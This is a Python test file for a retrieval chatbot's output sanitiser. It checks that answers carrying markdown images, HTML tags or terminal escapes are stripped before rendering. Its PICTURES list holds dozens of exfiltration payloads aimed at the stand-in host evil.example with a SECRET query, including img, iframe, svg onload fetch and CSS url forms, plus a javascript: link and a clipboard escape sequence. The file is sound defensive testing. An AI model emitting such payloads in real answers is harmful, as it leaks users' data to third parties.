"""Nothing that a model writes makes a page call an address: CommonMark with HTML, as a reader's page would show it."""

from __future__ import annotations

import random
import re
import time
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from rag import Bot, Document, HashingEmbedder, KnowledgeBase, Retriever
from rag.grounding.sanitising import without_embedded
from rag.testing import ScriptedGenerator

URL = "http://evil.example/?q=SECRET"
TRUE = "Otters hold hands while they sleep."
PICTURES = [
    f"![x]({URL})",
    f"![a[b]c]({URL})",
    f"![x](<{URL} a. B>)",
    f"![x]({URL}/(a))",
    f"![x\n](\n{URL})",
    f"![Foo. Bar]({URL})",
    f"![x][ref]\n\n[ref]: {URL}",
    f"![ref]\n\n[ref]:\n  <{URL}>",
    "![my ref][]\n\n> [my ref]: //evil.example/",
    f"![![x]({URL})]({URL})",
    f"![a ![b ![c ![d]({URL})]({URL})]({URL})]({URL})",
    f"!![Foo. Bar]({URL})",
    f"<img src={URL}>",
    f"<IMG\nsrc='{URL}'\n>",
    f"<img src={URL}\n\nSo it is.\n\n>",
    f"<video poster={URL}>",
    f"<svg onload=fetch('{URL}')>",
    f"<iframe src={URL}></iframe>",
    f"<div style='background:url({URL})'>",
    f"`![x]({URL})",
    f"\\`![x]({URL})`",
    f"` Then `![x]({URL})` c",
    f"```\n\n![x]({URL})\n\n```",
    f"``` `a` ![x]({URL})\n\n```",
    f"```\na ```\n![x]({URL})\n```",
    f"~~~ ![x]({URL})",
]
ANSWERS = [
    TRUE,
    "`code`",
    "An open ` tick.",
    "```\ncode\n```",
    "- a list",
    "The end",
    "> said",
    "\\",
    "[",
    "!",
    "(x)",
    "[1]",
]
LOADING = re.compile(
    r"<(?:img|iframe|video|svg|audio|object|embed|script|style|link)\b|<[a-z]+\s[^>]*(?:src|style|on\w+)="
)


@pytest.fixture(scope="module")
def bot_of(tmp_path_factory: pytest.TempPathFactory) -> object:
    with KnowledgeBase.create(tmp_path_factory.mktemp("kb") / "kb", embedder=HashingEmbedder()) as base:
        base.add([Document.from_text(TRUE, id="otters")])
        yield lambda text: Bot(Retriever(base), ScriptedGenerator([text]))


def answers() -> list[str]:
    rng = random.Random(5)
    mixed = [
        rng.choice([" ", "\n", "\n\n", ". ", ""]).join([TRUE, *rng.choices([*ANSWERS, *PICTURES], k=rng.randint(1, 5))])
        for _ in range(400)
    ]
    return [f"{TRUE} {picture}" for picture in PICTURES] + mixed


@pytest.mark.slow
def test_no_page_loads_anything_for_an_answer(bot_of: object) -> None:
    page, shown, removed = MarkdownIt("commonmark", {"html": True}), 0, 0
    for text in answers():
        answer = bot_of(text).ask("What do otters do?")
        html = page.render(answer.text)
        assert not LOADING.search(html), (text, answer.text, html)
        shown += not answer.degraded
        removed += answer.checks.images
    assert shown > 200
    assert removed > 300


@pytest.mark.parametrize(
    "text",
    [
        "`vec![a, b]` and `![caption][name]` load nothing.",
        '```html\n<img src="a.png">\n```',
        "`vec![1, 2]` makes a vector.",
        "If a <b and c = 5 then a < c.",
        "A `List<T>` of Map<K, V> holds them.",
        "[Note]: the ferry leaves at noon.",
        "Great! [A] is first.",
    ],
)
def test_what_loads_nothing_stays(text: str) -> None:
    assert without_embedded(text) == (text, 0)


def test_what_drives_a_terminal_goes_and_its_numbers_with_it() -> None:
    text = "Otters \x1b[31mhold\x1b[0m hands\x1b]52;c;c2VjcmV0\x07 while\x08 they\r\nsleep\x9b."
    assert without_embedded(text) == ("Otters hold hands while they\nsleep.", 0)


def test_time_is_linear_in_the_text() -> None:
    for unit in ("![", "![x](", "![a[b]", "[x]: /", "<a b=", "<img ", "` `", "!"):
        start = time.process_time()
        without_embedded(unit * (400_000 // len(unit)))
        assert time.process_time() - start < 30  # a second or less; a square would take minutes


def test_a_link_must_stand_in_a_passage(tmp_path: Path) -> None:
    with KnowledgeBase.create(tmp_path / "kb", embedder=HashingEmbedder()) as base:
        base.add([Document.from_text(f"{TRUE} See [the page](../otters.md) or //otters.example/a for more.", id="o")])
        for target, problem in (("../otters.md", ""), ("//evil.example/", "address"), ("javascript:x", "address")):
            said = f"Otters hold hands while they sleep, see [the page]({target}) for more."
            answer = Bot(Retriever(base), ScriptedGenerator([f"{TRUE} {said}"])).ask("What do otters do?")
            assert problem in answer.sentences[1].problem
            assert (answer.sentences[1].verdict == "supported") == (not problem)
